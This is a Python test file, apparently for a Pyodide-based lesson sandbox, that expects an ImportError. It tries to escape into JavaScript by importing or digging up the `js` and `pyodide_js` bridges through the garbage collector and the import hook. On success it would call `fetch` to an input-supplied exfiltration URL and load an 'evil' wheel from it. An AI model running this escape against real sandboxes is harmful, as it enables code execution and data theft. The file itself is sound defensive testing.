# A lesson that tries to escape from Python into the JavaScript around it through Pyodide's
# bridges: `js` (to fetch, post messages, import scripts, or find the global object) and
# `pyodide_js`, the interpreter's JavaScript API (to load code from elsewhere, or compile
# JavaScript from a string). The engine refuses both imports, and before the run it drops
# every reference the interpreter held to them (Pyodide's import hook kept both in
# `jsfinder.jsproxies`, and `pyodide.webloop` one to `_api.scheduleCallback`): digging finds
# neither. (What `js` would be is an empty object anyway, not the worker's global scope.)
# expect-outcome: raised
# expect-message: ImportError: js and pyodide_js are out of reach
import gc
import types


def reach(name):
    """The module, by import or, refused that, by digging: through the garbage collector's
    modules, Pyodide's import hook (its `jsfinder.jsproxies` held `js` and `pyodide_js` until
    the engine cut them), any dict that holds it, and the loaders of modules imported from
    it."""
    try:
        return __import__(name)
    except ImportError:
        print("blocked: import", name)
    for thing in gc.get_objects():
        if isinstance(thing, types.ModuleType):
            if thing.__name__ == name:
                print("reached", name, "through the garbage collector")
                return thing
            finder = getattr(thing, "jsfinder", None)
            if finder is not None and name in getattr(finder, "jsproxies", {}):
                print("reached", name, "through the import hook of", thing.__name__)
                return finder.jsproxies[name]
        elif type(thing) is dict and type(thing.get(name)).__name__.startswith("Js"):
            print("reached", name, "through a dict that holds it")
            return thing[name]
        elif type(thing).__name__ == "JsLoader" and getattr(thing, "jsproxy", None) is not None:
            print("LEAKED: a loader of a JavaScript module still holds it")
    raise ImportError(f"{name} is out of reach")


exfil = input().strip()
for bridge in ("js", "pyodide_js"):
    try:
        module = reach(bridge)
    except ImportError as error:
        print("blocked:", error)
        continue
    if bridge == "js":
        for name in ["self", "globalThis", "postMessage", "importScripts", "XMLHttpRequest", "eval", "Function"]:
            print("LEAKED js." + name, getattr(module, name, None))
        module.fetch(exfil + "/js-fetch")
    else:
        module.loadPackage(exfil + "/evil-0.1-py3-none-any.whl")
        print("LEAKED", module.runPython.constructor("return self.location.href")())
raise ImportError("js and pyodide_js are out of reach")
